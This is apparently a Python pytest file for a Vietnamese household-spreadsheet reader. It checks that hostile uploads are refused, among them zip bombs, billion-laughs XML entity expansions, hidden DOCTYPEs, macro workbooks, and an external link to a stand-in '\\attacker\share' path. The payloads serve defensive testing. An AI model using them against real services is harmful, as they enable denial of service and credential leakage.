"""Hostile and wrong files: refused with a clear message before anything is read."""

import io
import random
import zipfile

import pytest
from openpyxl import Workbook

from lib.sheets import SheetError, open_sheet, read_rows
from lib.sheets import package as package_module
from tests.sheets.conftest import HEADERS, HOUSEHOLDS, household, rezip, save, xlsx

NOT_XLSX = "không phải là sổ tính Excel (.xlsx)"


def refusal(data, **limits):
    result = read_rows(data, HOUSEHOLDS, choices_context="Mường Phăng", **limits)
    assert result.refused, result.rows
    assert result.rows == []
    assert len(result.problems) == 1
    problem = result.problems[0]
    assert problem.row is None and problem.column_header is None
    return problem.message


def good_file():
    return xlsx([HEADERS, household()])


def test_a_good_file_is_read():
    result = read_rows(good_file(), HOUSEHOLDS, choices_context="Mường Phăng")
    assert result.ok and not result.refused
    assert [row.values["head_name"] for row in result.rows] == ["Lò Văn Piếng"]


@pytest.mark.parametrize(
    "content",
    [
        "Họ tên chủ hộ,Năm sinh\nLò Văn Piếng,1975\n".encode(),  # a .csv renamed .xlsx
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100,  # an .exe
        b"<html><body>not a sheet</body></html>",
    ],
    ids=["csv", "exe", "html"],
)
def test_a_renamed_file_that_is_not_a_zip_is_refused_by_its_content(content):
    assert NOT_XLSX in refusal(content)


def test_a_plain_zip_renamed_xlsx_is_refused():
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("hello.txt", "xin chào")
    assert NOT_XLSX in refusal(output.getvalue())


def test_a_zip_with_a_workbook_part_but_no_content_types_is_refused():
    assert NOT_XLSX in refusal(rezip(good_file(), drop=("[Content_Types].xml",)))


def test_an_old_xls_file_is_refused_with_how_to_convert_it():
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    assert ".xls" in refusal(ole2)
    assert "Lưu thành" in refusal(ole2)


def test_a_macro_workbook_is_refused():
    data = good_file()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    macro = types.replace(
        "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml"
    ).encode()
    assert ".xlsm" in refusal(rezip(data, replace={"[Content_Types].xml": macro}))


def test_an_empty_file_is_refused():
    assert refusal(b"") == "Tệp trống. Hãy chọn tệp Excel (.xlsx) chứa các dòng của bạn."


def test_a_file_over_the_size_cap_is_refused_before_it_is_opened():
    message = refusal(good_file(), max_bytes=1000)
    assert "lớn nhất được nhận là 0,0 MB" in message


def test_a_zip_bomb_is_refused_from_the_directory_before_decompression(monkeypatch):
    # 60 MB of zeros compress to about 60 KB: a ratio of a thousand.
    bomb = rezip(good_file(), add={"xl/media/padding.bin": b"\0" * (60 * 1024 * 1024)})
    assert len(bomb) < 200_000
    opened = []
    monkeypatch.setattr(package_module, "load_workbook", lambda *a, **k: opened.append(1))
    assert "zip bomb" in refusal(bomb)
    assert opened == []


def test_a_workbook_expanding_past_the_total_cap_is_refused():
    # Each part compresses only a little, but together they pass the (lowered) cap.
    incompressible = bytes(range(256)) * 4096
    data = rezip(good_file(), add={f"xl/media/p{i}.bin": incompressible for i in range(3)})
    assert "zip bomb" in refusal(data, max_uncompressed=2 * 1024 * 1024)


def test_shared_strings_too_large_to_parse_whole_are_refused(monkeypatch):
    monkeypatch.setattr(package_module, "MAX_WHOLE_PART_BYTES", 1000)
    data = xlsx([HEADERS, *[household(head_name=f"Người số {i}") for i in range(100)]])
    assert "zip bomb" in refusal(data)


def test_an_xml_entity_expansion_is_refused():
    data = good_file()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        workbook = archive.read("xl/workbook.xml").decode()
    laughs = (
        '<!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )
    workbook = workbook.replace("<workbook", laughs + "<workbook", 1)
    workbook = workbook.replace('name="Trang 1"', 'name="&lol2;"')
    assert "&lol2;" in workbook
    data = rezip(data, replace={"xl/workbook.xml": workbook.encode()})
    assert "XML mà Excel không bao giờ ghi" in refusal(data)


def test_a_doctype_hidden_behind_a_long_comment_is_still_found():
    data = good_file()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        styles = archive.read("xl/styles.xml").decode()
    padded = styles.replace(
        "<styleSheet",
        "<!--" + "<a>" * 30000 + '--><!DOCTYPE x [<!ENTITY e "e">]><styleSheet',
        1,
    )
    data = rezip(data, replace={"xl/styles.xml": padded.encode()})
    assert "XML mà Excel không bao giờ ghi" in refusal(data)


@pytest.mark.parametrize(
    ("head", "safe"),
    [
        (b'<?xml version="1.0"?>\n<workbook/>', True),
        (b"<!-- note --><?pi x?> <root>", True),
        (b"<!DOCTYPE r><r/>", False),
        (b"\xef\xbb\xbf<?xml version='1.0'?><!doctype r>", False),
        ("\ufeff<?xml version='1.0'?><!DOCTYPE r><r/>".encode("utf-16"), False),
        ("<?xml version='1.0'?><r/>".encode("utf-16-le"), True),
        ("<!DOCTYPE r><r/>".encode("utf-16-be"), False),
        (b"<!-- never closed", False),
    ],
)
def test_only_declarations_comments_and_spaces_may_precede_the_root(head, safe):
    assert package_module._prolog_is_safe(head, complete=True) is safe


def test_a_damaged_workbook_is_refused_not_a_500():
    data = rezip(good_file(), replace={"xl/workbook.xml": b"<workbook><sheets><sheet"})
    assert refusal(data).startswith("Không đọc được sổ tính")


def test_an_external_link_is_never_followed_and_its_cached_value_is_read(monkeypatch):
    """A formula pointing at another workbook: openpyxl is told not to load the link part."""
    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    sheet.append(household())
    data = save(book)
    sheet_xml_name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read(sheet_xml_name).decode()
        types = archive.read("[Content_Types].xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
        workbook = archive.read("xl/workbook.xml").decode()
    # Cell A2 becomes a formula into \\attacker\share\[book.xlsx], with a cached value.
    sheet_xml = sheet_xml.replace(
        '<c r="A2" t="inlineStr"><is><t>Lò Văn Piếng</t></is></c>',
        '<c r="A2" t="str"><f>[1]Sheet1!A1</f><v>Lò Văn Piếng</v></c>',
    )
    assert "[1]Sheet1!A1" in sheet_xml
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        "</externalBook></externalLink>"
    )
    link_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" '
        'Target="file:///\\\\attacker\\share\\book.xlsx" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'externalLinkPath"/></Relationships>'
    )
    types = types.replace(
        "</Types>",
        '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    )
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdX" Target="externalLinks/externalLink1.xml" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/externalLink"/></Relationships>',
    )
    workbook = workbook.replace(
        "</workbook>",
        '<externalReferences><externalReference r:id="rIdX"/></externalReferences></workbook>',
    )
    hostile = rezip(
        data,
        replace={
            sheet_xml_name: sheet_xml.encode(),
            "[Content_Types].xml": types.encode(),
            "xl/_rels/workbook.xml.rels": rels.encode(),
            "xl/workbook.xml": workbook.encode(),
        },
        add={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
        },
    )
    calls = []
    real = package_module.load_workbook

    def spy(*args, **kwargs):
        calls.append(kwargs)
        book = real(*args, **kwargs)
        assert book._external_links == []
        return book

    monkeypatch.setattr(package_module, "load_workbook", spy)
    result = read_rows(hostile, HOUSEHOLDS, choices_context="Mường Phăng")
    assert result.ok, result.problems
    assert result.rows[0].values["head_name"] == "Lò Văn Piếng"
    assert calls and all(
        k["keep_links"] is False and k["data_only"] and k["read_only"] for k in calls
    )


def test_open_sheet_raises_the_same_refusal_for_streaming_callers():
    with pytest.raises(SheetError) as caught:
        open_sheet(b"not a zip", HOUSEHOLDS)
    assert NOT_XLSX in caught.value.problems[0].message


def _sheet_renamed_to_bin(doctype_and_body):
    """The good file with its worksheet part renamed `sheet1.bin` (the relationship and the
    content type updated, as a hostile file would) and its XML changed by the callable."""
    data = good_file()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
        types = archive.read("[Content_Types].xml").decode()
    rels = rels.replace("worksheets/sheet1.xml", "worksheets/sheet1.bin")
    types = types.replace("/xl/worksheets/sheet1.xml", "/xl/worksheets/sheet1.bin")
    return rezip(
        data,
        drop=("xl/worksheets/sheet1.xml",),
        replace={"xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": types},
        add={"xl/worksheets/sheet1.bin": doctype_and_body(sheet).encode()},
    )


def test_an_entity_in_a_worksheet_part_not_named_xml_is_refused():
    def with_entity(sheet):
        sheet = sheet.replace(
            "<worksheet", '<!DOCTYPE w [<!ENTITY big "' + "x" * 5000 + '">]><worksheet', 1
        )
        return sheet.replace("Lò Văn Piếng", "&big;", 1)

    data = _sheet_renamed_to_bin(with_entity)
    assert "XML mà Excel không bao giờ ghi" in refusal(data)


def test_a_renamed_worksheet_part_without_a_doctype_is_read():
    result = read_rows(
        _sheet_renamed_to_bin(lambda sheet: sheet), HOUSEHOLDS, choices_context="Mường Phăng"
    )
    assert [row.values["head_name"] for row in result.rows] == ["Lò Văn Piếng"]


def test_openpyxl_parses_with_defusedxml():
    # Behind the check of each part's prolog, every XML part openpyxl parses goes through
    # defusedxml, which refuses entity declarations wherever they are.
    import openpyxl

    assert openpyxl.DEFUSEDXML is True


def test_a_workbook_holding_more_than_its_rows_can_fill_is_refused_from_the_directory(
    monkeypatch,
):
    # 10 rows of HOUSEHOLDS fill far less than the workbook's fixed allowance (8 MB) plus
    # their cells; 9 MB that barely compress (a ratio of 1, under every zip-bomb limit) pass it.
    padding = random.Random(18).randbytes(9 * 1024 * 1024)
    data = rezip(good_file(), add={"xl/media/image1.png": padding})
    assert read_rows(data, HOUSEHOLDS, choices_context="Mường Phăng").ok
    opened = []
    monkeypatch.setattr(package_module, "load_workbook", lambda *a, **k: opened.append(1))
    message = refusal(data, max_rows=10)
    assert "Hãy chia các dòng thành nhiều tệp" in message, message
    assert opened == []


def _with_rows_below(extra_rows, *, last_data_row=None):
    """The good file's sheet followed by `extra_rows` formatted empty rows (as Excel writes
    rows someone gave a height), then, optionally, one more data row at the very end."""
    data = good_file()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    start = 3
    filler = "".join(
        f'<row r="{number}" ht="20" customHeight="1"/>'
        for number in range(start, start + extra_rows)
    )
    if last_data_row:
        number = start + extra_rows
        cell = f'<c r="A{number}" t="inlineStr"><is><t>Lò Văn Cuối</t></is></c>'
        filler += f'<row r="{number}">{cell}</row>'
    sheet = sheet.replace("</sheetData>", filler + "</sheetData>", 1)
    return rezip(data, replace={"xl/worksheets/sheet1.xml": sheet.encode()})


def test_reading_stops_at_the_row_limit_whatever_follows(monkeypatch):
    from openpyxl.worksheet._reader import WorkSheetParser

    parsed = []
    original = WorkSheetParser.parse_row

    def counting(self, row):
        parsed.append(1)
        return original(self, row)

    monkeypatch.setattr(WorkSheetParser, "parse_row", counting)
    data = _with_rows_below(20_000, last_data_row=True)
    message = refusal(data, max_rows=5)
    # header row 1 + 5 rows of data + 1,000 empty rows tolerated.
    assert "dưới dòng 1.006" in message, message
    assert len(parsed) < 1_100


def test_formatted_empty_rows_below_the_data_are_tolerated_up_to_a_thousand():
    data = _with_rows_below(900)
    result = read_rows(data, HOUSEHOLDS, choices_context="Mường Phăng", max_rows=5)
    assert [row.values["head_name"] for row in result.rows] == ["Lò Văn Piếng"]
